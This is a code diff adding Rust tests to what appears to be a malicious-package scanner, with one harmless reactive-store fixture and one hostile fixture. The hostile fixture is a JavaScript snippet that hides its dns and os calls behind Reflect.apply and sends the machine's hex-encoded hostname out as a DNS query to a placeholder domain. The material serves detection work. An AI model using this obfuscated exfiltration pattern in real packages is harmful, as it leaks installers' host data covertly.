@@ -157,4 +157,39 @@ mod tests {
         ]);
         assert!(severities(&s).is_empty());
     }
+
+    /// `dns`/`os` loaded through `Reflect.apply(Module.prototype.require, …)` from a table of
+    /// `[member, module]` pairs and every call made with `Reflect.apply`.
+    #[test]
+    fn positive_reflect_apply_table_to_dns() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const Module = require('module');\nconst ops = [['lookup', 'dns'], ['hostname', 'os'], ['env', null]];\nconst tbl = ops.map(([a, b]) => (b ? Reflect.apply(Module.prototype.require, module, [b])[a] : process[a]));\nfunction diag() {\n  const h = Buffer.from(Reflect.apply(tbl[1], null, [])).toString('hex');\n  Reflect.apply(tbl[0], null, [`${h}.t.example.invalid`, () => {}]);\n}\nexports.register = () => setImmediate(diag);\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/host-data-exfiltration"),
+            vec![("index.js".to_string(), 6)]
+        );
+    }
+
+    /// A reactive store (valtio / @vue/reactivity style): `Proxy` traps and `Reflect.apply`
+    /// over its own functions only.
+    #[test]
+    fn negative_reactive_store_reflect_apply() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "exports.reactive = (o, fx) => new Proxy(o, {\n  get(t, k, r) { return Reflect.get(t, k, r); },\n  set(t, k, v, r) { const ok = Reflect.set(t, k, v, r); fx.forEach((f) => Reflect.apply(f, null, [k, v])); return ok; },\n});\n",
+            ),
+        ]);
+        assert!(
+            s.findings
+                .iter()
+                .all(|f| f.severity <= diligence_finding::Severity::Low)
+        );
+    }
 }
